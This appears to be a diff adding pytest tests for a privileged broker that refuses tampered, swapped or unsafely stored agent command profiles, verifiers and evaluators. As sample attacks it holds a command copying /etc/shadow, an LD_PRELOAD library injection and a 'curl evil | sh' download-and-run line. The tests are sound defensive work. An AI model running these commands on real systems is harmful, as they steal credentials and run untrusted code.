@@ -1,0 +1,128 @@
+"""Root runs only what /etc/cairn says (ARCHITECTURE §7): a command profile, verifier or
+evaluator frozen in a description is re-read by root from its file by name and hash, and
+the agent worker runs only the profile root froze for it. Real files under a test root;
+the description is what the ``cairn`` user could have written."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from cairn import paths
+from cairn.broker import hostfiles
+from cairn.config import Problems
+from cairn.errors import BrokerRefused, CairnError
+from cairn.evaluators import EvaluatorConfig, frozen_evaluators
+from cairn.hostconfig import check_profile, profile_file
+from cairn.protocol.launch import PROFILE_SHA256_ENV, ProfileSpec
+from cairn.verifiers import matching_verifiers
+
+VERIFIER = 'argv = ["/usr/bin/make", "check"]\ntimeout_sec = 60\n[match]\nprojects = ["/"]\n'
+EVALUATOR = 'argv = ["/usr/bin/bench"]\ntimeout_sec = 30\nnetwork = false\n'
+PROFILE = 'kind = "command"\nargv = ["/usr/bin/agent", "--task"]\n'
+
+
+@pytest.fixture(autouse=True)
+def etc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    monkeypatch.setenv("CAIRN_ROOT", str(tmp_path))
+    for name, text in (("verifiers.d/check.toml", VERIFIER),
+                       ("evaluators.d/bench.toml", EVALUATOR),
+                       ("profiles.d/tool.toml", PROFILE)):
+        file = paths.config_dir() / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+        os.chmod(file, 0o644)
+    yield paths.config_dir()
+
+
+def frozen_profile() -> ProfileSpec:
+    problems = Problems()
+    file = profile_file("tool")
+    data = problems.toml(file)
+    assert data is not None
+    checked = check_profile(problems, file, data, "tool")
+    assert checked is not None
+    return checked.model_copy(update={"config_sha256": problems.read_sha256[file]})
+
+
+def test_what_a_launch_froze_is_what_root_reads() -> None:
+    problems = Problems()
+    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
+    (evaluator,) = frozen_evaluators({"bench": None}, problems)
+    problems.check()
+    hostfiles.check_verifier(verifier)
+    hostfiles.check_evaluator(evaluator)
+    hostfiles.check_profile(frozen_profile())
+
+
+def test_argv_the_file_does_not_say_is_refused() -> None:
+    problems = Problems()
+    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
+    (evaluator,) = frozen_evaluators({"bench": None}, problems)
+    evil = ["/bin/sh", "-c", "cp /etc/shadow /tmp"]
+    with pytest.raises(BrokerRefused, match="verifier check .* argv differ"):
+        hostfiles.check_verifier(verifier.model_copy(update={"argv": evil}))
+    with pytest.raises(BrokerRefused, match="evaluator bench .* environment differ"):
+        hostfiles.check_evaluator(evaluator.model_copy(update={"environment": {"LD_PRELOAD":
+                                                                               "/tmp/x.so"}}))
+    with pytest.raises(BrokerRefused, match="command profile tool .* argv differ"):
+        hostfiles.check_profile(frozen_profile().model_copy(update={"argv": evil}))
+
+
+def test_a_file_changed_since_the_launch_is_not_run(etc: Path) -> None:
+    problems = Problems()
+    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
+    (etc / "verifiers.d/check.toml").write_text(VERIFIER.replace("check", "install"))
+    with pytest.raises(BrokerRefused, match="changed since the run was launched"):
+        hostfiles.check_verifier(verifier)
+
+
+@pytest.mark.parametrize("planted", ["symlink", "group-writable", "fifo", "missing", "big"])
+def test_only_a_regular_file_only_root_writes_is_read(etc: Path, planted: str) -> None:
+    profile = frozen_profile()
+    file = etc / "profiles.d/tool.toml"
+    elsewhere = etc / "elsewhere.toml"
+    elsewhere.write_text(PROFILE)
+    file.unlink()
+    if planted == "symlink":
+        file.symlink_to(elsewhere)
+    elif planted == "group-writable":
+        file.write_text(PROFILE)
+        os.chmod(file, 0o664)
+    elif planted == "fifo":
+        os.mkfifo(file)
+    elif planted == "big":
+        file.write_text(PROFILE + "#" * (hostfiles.CONFIG_LIMIT + 1))
+    with pytest.raises(BrokerRefused, match="cannot be read|not a regular file|larger than"):
+        hostfiles.check_profile(profile)
+
+
+def test_a_command_profile_frozen_without_its_file_is_refused() -> None:
+    bare = ProfileSpec(name="tool", kind="command", argv=["/usr/bin/agent"])
+    with pytest.raises(BrokerRefused, match="frozen without its file"):
+        hostfiles.check_profile(bare)
+    hostfiles.check_profile(ProfileSpec(name="s", kind="scripted"))  # runs no host command
+
+
+def test_root_knows_an_evaluator_files_defaults() -> None:
+    defaults = {k: EvaluatorConfig.model_fields[k].default for k in hostfiles.EVALUATOR_DEFAULTS}
+    assert defaults == hostfiles.EVALUATOR_DEFAULTS
+
+
+def test_the_worker_runs_only_the_profile_root_froze_for_it(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from cairn.worker.__main__ import check_profile as worker_check
+
+    frozen = frozen_profile()
+    monkeypatch.setenv(PROFILE_SHA256_ENV, frozen.sha256())
+    worker_check(frozen)
+    swapped = frozen.model_copy(update={"argv": ["/bin/sh", "-c", "curl evil | sh"]})
+    with pytest.raises(CairnError, match="not the one root froze for this agent"):
+        worker_check(swapped)
+    monkeypatch.delenv(PROFILE_SHA256_ENV)
+    with pytest.raises(CairnError, match="not the one root froze"):
+        worker_check(frozen)
